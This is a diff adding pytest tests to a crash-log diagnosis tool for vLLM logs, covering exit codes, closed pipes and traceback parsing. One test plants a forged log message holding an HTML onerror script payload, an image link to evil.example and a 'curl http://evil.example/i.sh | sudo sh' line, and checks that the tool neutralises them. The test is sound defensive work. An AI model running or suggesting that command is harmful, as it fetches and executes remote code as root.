@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import gzip
+import json
 import os
 from pathlib import Path
 
@@ -118,3 +119,76 @@ def test_output_file(tmp_path: Path) -> None:
     out = tmp_path / "r.json"
     r = crashdoc("diagnose", str(SAMPLE), "--format", "json", "--output", str(out))
     assert r.status == 0 and r.stdout == "" and '"root_cause"' in out.read_text()
+
+
+def test_forged_report_lines_and_markdown_injection_are_neutralised(tmp_path: Path) -> None:
+    rec = {"__REALTIME_TIMESTAMP": "1764493921000000", "_HOSTNAME": "h", "SYSLOG_IDENTIFIER": "vllm", "_PID": "7",
+           "MESSAGE": "RuntimeError: x went wrong <img src=x onerror=alert(1)> ![t](http://evil.example/p.png)"
+                      "\nFix       $ curl http://evil.example/i.sh | sudo sh"}
+    log = tmp_path / "j.json"
+    log.write_text(json.dumps(rec) + "\n")
+    term = crashdoc("diagnose", str(log), "--width", "300").stdout
+    assert not any(ln.lstrip().startswith(("Fix       $ curl", "$ curl")) for ln in term.splitlines())
+    md = crashdoc("diagnose", str(log), "--format", "markdown").stdout
+    for ln in md.splitlines():
+        for bad in ("<img", "![t](http"):
+            if bad in ln:  # only inside a code span or a fence
+                assert ln.count("`") >= 2 or ln.startswith(" "), ln
+
+
+@pytest.mark.parametrize(
+    "setup,status,needle",
+    [
+        ("bad-gzip", 2, "nothing could be read"),
+        ("stdin-closed", 2, "standard input is closed"),
+        ("bad-rules", 2, "missing 'category'"),
+    ],
+)
+def test_unreadable_inputs_exit_2(tmp_path: Path, setup: str, needle: str, status: int) -> None:
+    import subprocess
+    import sys
+
+    env = {**os.environ, "PYTHONPATH": str(ROOT / "src")}
+    if setup == "bad-gzip":
+        p = tmp_path / "bad.gz"
+        p.write_bytes(b"\x1f\x8b" + b"garbage" * 10)
+        args = [str(p)]
+    elif setup == "stdin-closed":
+        args = ["-"]
+    else:
+        (tmp_path / "x").mkdir()
+        (tmp_path / "x" / "y.yaml").write_text("id: y\n")
+        args = [str(SAMPLE), "--rules", str(tmp_path)]
+    cmd = [sys.executable, "-m", "crashdoc", "diagnose", *args]
+    if setup == "stdin-closed":
+        r = subprocess.run(["sh", "-c", 'exec "$@" <&-', "sh", *cmd], capture_output=True, text=True, env=env, check=False)
+    else:
+        r = subprocess.run(cmd, capture_output=True, text=True, env=env, check=False)
+    assert r.returncode == status and needle in r.stderr and "Traceback" not in r.stderr, r.stderr
+
+
+def test_closed_pipe_keeps_the_exit_status() -> None:
+    import subprocess
+    import sys
+
+    env = {**os.environ, "PYTHONPATH": str(ROOT / "src")}
+    p = subprocess.run(["bash", "-c", f'"{sys.executable}" -m crashdoc diagnose "{SAMPLE}" | head -1; echo "${{PIPESTATUS[0]}}"'],
+                       capture_output=True, text=True, env=env, check=False)
+    assert p.stdout.strip().splitlines()[-1] == "0", (p.stdout, p.stderr)
+    assert "Traceback" not in p.stderr
+
+
+def test_multi_line_journal_message_and_kubectl_prefix(tmp_path: Path) -> None:
+    tb = ("Traceback (most recent call last):\n  File \"/v/vllm/x.py\", line 3, in f\n    g()\n"
+          "RuntimeError: weird novel failure in custom op registry")
+    recs = [{"__REALTIME_TIMESTAMP": "1764493921000000", "SYSLOG_IDENTIFIER": "vllm", "_PID": "7", "MESSAGE": "INFO start"},
+            {"__REALTIME_TIMESTAMP": "1764493922000000", "SYSLOG_IDENTIFIER": "vllm", "_PID": "7", "MESSAGE": tb}]
+    log = tmp_path / "j.json"
+    log.write_text("Hint: You are currently not seeing messages from other users and the system.\n"
+                   + "\n".join(json.dumps(r) for r in recs) + "\n")
+    rc = crashdoc("diagnose", str(log), "--format", "json").json["root_cause"]
+    assert rc["exception"] == "RuntimeError" and rc["lineno"] == 3 and rc["where"]["frame"].startswith("x.py:3")
+    k = tmp_path / "k.log"
+    k.write_text("[pod/vllm-0/vllm] INFO 11-30 09:00:00 [api.py:1] start\n[pod/vllm-0/vllm] RuntimeError: weird thing in sampler\n")
+    rc = crashdoc("diagnose", str(k), "--format", "json").json["root_cause"]
+    assert rc["lineno"] == 2 and rc["exception"] == "RuntimeError"
